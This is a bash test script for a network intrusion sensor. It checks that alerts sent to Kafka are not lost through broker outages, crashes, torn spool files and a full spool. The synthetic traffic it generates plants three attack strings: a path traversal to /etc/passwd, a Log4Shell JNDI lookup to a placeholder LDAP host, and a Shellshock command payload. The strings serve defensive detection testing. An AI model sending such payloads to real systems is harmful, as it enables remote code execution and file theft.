#!/bin/bash
# No alert lost across broker outages (mock cluster `down`/`up`): down
# before the run and back during it; down and back during the run; the
# sensor killed with SIGKILL during an outage and restarted (the spool is
# replayed); and a torn spool tail cut, counted, the rest replayed.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/kafka-lib.sh"
need_kafka_tools
FEED="python3 $(dirname "$0")/pcap_feed.py"
CHECK="python3 $(dirname "$0")/kafka_check.py"

PCAP=$WORK/sample.pcap
"$GEN_TRAFFIC" -o "$PCAP" --flows 200 --seed 1 \
	--plant '../../../../etc/passwd@3:20' \
	--plant '${jndi:ldap://198.51.100.7:1389/a}@7:30' \
	--plant '() { :; }; /bin/bash -c id@11:40' >/dev/null 2>&1 || { fail "gen-traffic"; finish; }
# an empty capture: a restart that only replays
python3 -c 'import sys; sys.stdout.buffer.write(open(sys.argv[1],"rb").read(24))' "$PCAP" \
	>"$WORK/empty.pcap"
cat >"$WORK/many.rules" <<'R'
alert tcp any any -> any any (msg:"MAMORI TEST every TCP payload"; flow:established; dsize:>0; sid:9100001; rev:1;)
R
RULES="-S $TOP_SRCDIR/rules/mamori.rules -S $WORK/many.rules"

mock_start --topic t1:32 --topic t2:32 --topic t3:32 || { fail "mock start"; finish; }

# wait_for FILE: until a gate file of pcap_feed.py appears (30 s)
wait_for() {
	for _ in $(seq 600); do [ -e "$1" ] && return 0; sleep 0.05; done
	return 1
}

# kstat EVE FIELD: the sink's counter in the last stats record
kstat() {
	python3 - "$1" "$2" <<'PY'
import json, sys
last = [json.loads(l) for l in open(sys.argv[1]) if '"event_type":"stats"' in l][-1]
print(last["stats"]["output"]["kafka"][0][sys.argv[2]])
PY
}

# ---- 1: down before the run, up during it -------------------------------
G=$WORK/g1; mkdir -p "$G"
check_eq "down before the run" ok "$(mock_cmd 'down 1')"
$FEED "$PCAP" 2 0 "$G" | "$MAMORI" -q -r /dev/stdin $RULES -l "$WORK/o1" \
	--kafka "$KAFKA_BOOTSTRAP" --kafka-topic t1 >"$WORK/r1.log" 2>&1 &
pid=$!
wait_for "$G/sent.1" || fail "feeder stuck"
sleep 1.5   # the first half is read and alerted on while the broker is down
check_eq "up during the run" ok "$(mock_cmd 'up 1')"
touch "$G/go.1"
wait $pid
check_eq "run 1 exits 0" 0 $?
consume t1 '%k\t%h\t%s\n' >"$WORK/k1.txt"
$CHECK "$WORK/o1/eve.json" "$WORK/k1.txt" --allow-dups >"$WORK/c1" 2>&1
check_eq "down before, up during: nothing lost, per-flow order" 0 $?
grep -v '^ok' "$WORK/c1"
sp=$(kstat "$WORK/o1/eve.json" spooled); rp=$(kstat "$WORK/o1/eve.json" replayed)
[ "$sp" -gt 1000 ] && ok "spooled while down ($sp)" || fail "spooled only $sp"
check_eq "everything spooled was replayed" "$sp" "$rp"
check_eq "nothing dropped" 0 "$(kstat "$WORK/o1/eve.json" dropped)"
check_eq "spool empty at exit" 0 "$(kstat "$WORK/o1/eve.json" spool_pending)"

# ---- 2: up at start, down and up during the run -------------------------
G=$WORK/g2; mkdir -p "$G"
$FEED "$PCAP" 3 0 "$G" | "$MAMORI" -q -r /dev/stdin $RULES -l "$WORK/o2" \
	--kafka "$KAFKA_BOOTSTRAP" --kafka-topic t2 >"$WORK/r2.log" 2>&1 &
pid=$!
wait_for "$G/sent.1" || fail "feeder stuck"
sleep 1.5   # first third delivered
check_eq "down during the run" ok "$(mock_cmd 'down 1')"
touch "$G/go.1"
wait_for "$G/sent.2"
sleep 1.5   # second third while down
check_eq "up again" ok "$(mock_cmd 'up 1')"
touch "$G/go.2"
wait $pid
check_eq "run 2 exits 0" 0 $?
consume t2 '%k\t%h\t%s\n' >"$WORK/k2.txt"
$CHECK "$WORK/o2/eve.json" "$WORK/k2.txt" --allow-dups >"$WORK/c2" 2>&1
check_eq "down and up during the run: nothing lost, per-flow order" 0 $?
grep -v '^ok' "$WORK/c2"
sp=$(kstat "$WORK/o2/eve.json" spooled)
[ "$sp" -gt 1000 ] && ok "spooled during the outage ($sp)" || fail "spooled only $sp"
check_eq "replayed = spooled" "$sp" "$(kstat "$WORK/o2/eve.json" replayed)"
check_eq "spool empty at exit (2)" 0 "$(kstat "$WORK/o2/eve.json" spool_pending)"

# ---- 3: SIGKILL during an outage, restart replays -----------------------
G=$WORK/g3; mkdir -p "$G"
check_eq "down before run 3" ok "$(mock_cmd 'down 1')"
$FEED "$PCAP" 2 0 "$G" | "$MAMORI" -q -r /dev/stdin $RULES -l "$WORK/o3" \
	--kafka "$KAFKA_BOOTSTRAP" --kafka-topic t3 >"$WORK/r3.log" 2>&1 &
pid=$!
wait_for "$G/sent.1" || fail "feeder stuck"
sleep 2
# $! of a background pipeline is its last command: the sensor
if kill -KILL "$pid"; then ok "SIGKILL during the outage"; else fail "no sensor to kill"; fi
touch "$G/go.1"
wait $pid 2>/dev/null
n3=$(grep -c '"event_type":"alert"' "$WORK/o3/eve.json")
[ "$n3" -gt 1000 ] && ok "$n3 alerts in eve.json before the kill" || fail "only $n3 alerts before the kill"
ls "$WORK/o3/kafka-spool/t3/" | grep -q '^seg-' && ok "spool segments on disk" || fail "no spool"
# and a torn tail, as a crash in the middle of a write leaves one
seg=$(ls "$WORK/o3/kafka-spool/t3/"seg-* | tail -n 1)
printf '\200\0\0\0garbage-from-a-torn-write' >>"$seg"
check_eq "up before the restart" ok "$(mock_cmd 'up 1')"
# the restart reads nothing new: it only replays
"$MAMORI" -q -r "$WORK/empty.pcap" -l "$WORK/o3" --kafka "$KAFKA_BOOTSTRAP" \
	--kafka-topic t3 >"$WORK/r3b.log" 2>&1
check_eq "restart exits 0" 0 $?
consume t3 '%k\t%h\t%s\n' >"$WORK/k3.txt"
$CHECK "$WORK/o3/eve.json" "$WORK/k3.txt" --allow-dups >"$WORK/c3" 2>&1
check_eq "killed during an outage: replayed at restart, nothing lost" 0 $?
grep -v '^ok' "$WORK/c3"
check_eq "restart replayed them all" "$n3" "$(kstat "$WORK/o3/eve.json" replayed)"
check_eq "spool empty after the restart" 0 "$(kstat "$WORK/o3/eve.json" spool_pending)"
check_eq "the torn tail was cut and counted" 1 "$(kstat "$WORK/o3/eve.json" spool_torn)"
grep -q "cut .* bytes of a torn record" "$WORK/r3b.log" && ok "the cut is logged" ||
	fail "no log line for the cut"

# ---- 4: SIGTERM during an outage: flush for flush-timeout, spool the rest --
G=$WORK/g4; mkdir -p "$G"
cat >"$WORK/t4.yaml" <<Y
outputs:
  kafka:
    - brokers: "$KAFKA_BOOTSTRAP"
      topic: t4
      flush-timeout: 1000
Y
check_eq "down before run 4" ok "$(mock_cmd 'down 1')"
$FEED "$PCAP" 2 0 "$G" | "$MAMORI" -q -c "$WORK/t4.yaml" -r /dev/stdin $RULES \
	-l "$WORK/o4" >"$WORK/r4.log" 2>&1 &
pid=$!
wait_for "$G/sent.1" || fail "feeder stuck"
sleep 2
t0=$(date +%s%N)
kill -TERM "$pid"
# a read from a pipe is not interrupted: let the feeder go on to its end
touch "$G/go.1"
wait "$pid"
rc=$?
t1=$(date +%s%N)
check_eq "SIGTERM during an outage exits 0" 0 $rc
ms=$(( (t1 - t0) / 1000000 ))
[ "$ms" -lt 5000 ] && ok "exit within the flush timeout (${ms} ms)" || fail "exit took ${ms} ms"
n4=$(grep -c '"event_type":"alert"' "$WORK/o4/eve.json")
check_eq "everything spooled at exit" "$n4" "$(kstat "$WORK/o4/eve.json" spool_pending)"
grep -q "records left in .* for the next start" "$WORK/r4.log" && ok "the leftover is logged" ||
	fail "no log line for the leftover"
check_eq "up before restart 4" ok "$(mock_cmd 'up 1')"
"$MAMORI" -q -c "$WORK/t4.yaml" -r "$WORK/empty.pcap" -l "$WORK/o4" >"$WORK/r4b.log" 2>&1
consume t4 '%k\t%h\t%s\n' >"$WORK/k4.txt"
$CHECK "$WORK/o4/eve.json" "$WORK/k4.txt" >"$WORK/c4" 2>&1
check_eq "SIGTERM then restart: all delivered, exactly once" 0 $?
grep -v '^ok' "$WORK/c4"

# ---- 5: a full spool drops the oldest, counts it and says so ---------------
cat >"$WORK/t5.yaml" <<Y
outputs:
  kafka:
    - brokers: "$KAFKA_BOOTSTRAP"
      topic: t5
      flush-timeout: 0
      spool:
        max-size: 1mb
        full: drop-oldest
Y
check_eq "down before run 5" ok "$(mock_cmd 'down 1')"
"$MAMORI" -q -c "$WORK/t5.yaml" -r "$PCAP" $RULES -l "$WORK/o5" >"$WORK/r5.log" 2>&1
check_eq "run 5 exits 0" 0 $?
d5=$(kstat "$WORK/o5/eve.json" dropped)
p5=$(kstat "$WORK/o5/eve.json" spool_pending)
n5=$(grep -c '"event_type":"alert"' "$WORK/o5/eve.json")
[ "$d5" -gt 0 ] && ok "full spool: $d5 dropped" || fail "nothing dropped from a 1 MB spool"
check_eq "dropped + pending = alerts" "$n5" "$((d5 + p5))"
[ "$(kstat "$WORK/o5/eve.json" spool_bytes)" -le 1048576 ] && ok "spool within max-size" ||
	fail "spool over max-size"
grep -q "spool .* full: records of the oldest segment dropped" "$WORK/r5.log" && ok "logged loudly" || fail "no log line"
check_eq "up before restart 5" ok "$(mock_cmd 'up 1')"
# (flush-timeout 0 would give the replay no time)
"$MAMORI" -q -c "$WORK/t5.yaml" --set outputs.kafka.0.flush-timeout=10000 \
	-r "$WORK/empty.pcap" -l "$WORK/o5" >/dev/null 2>&1
consume t5 >"$WORK/k5.txt"
# what survived is the newest: the last p5 alerts of eve.json
python3 - "$WORK/o5/eve.json" "$WORK/k5.txt" "$p5" <<'PY' >"$WORK/c5" 2>"$WORK/c5.err"
import sys
eve = [l.rstrip("\n") for l in open(sys.argv[1]) if '"event_type":"alert"' in l]
got = [l.rstrip("\n") for l in open(sys.argv[2]) if l.strip()]
tail = eve[-int(sys.argv[3]):]
ok = sorted(got) == sorted(tail)
print(ok)
if not ok:
    sys.stderr.write("got %d, tail %d, common %d, got in eve %d\n" % (len(got), len(tail),
                     len(set(got) & set(tail)), len(set(got) & set(eve))))
PY
cat "$WORK/c5.err" 2>/dev/null
check_eq "drop-oldest kept the newest $p5, delivered after the restart" True "$(cat "$WORK/c5")"

mock_stop
finish
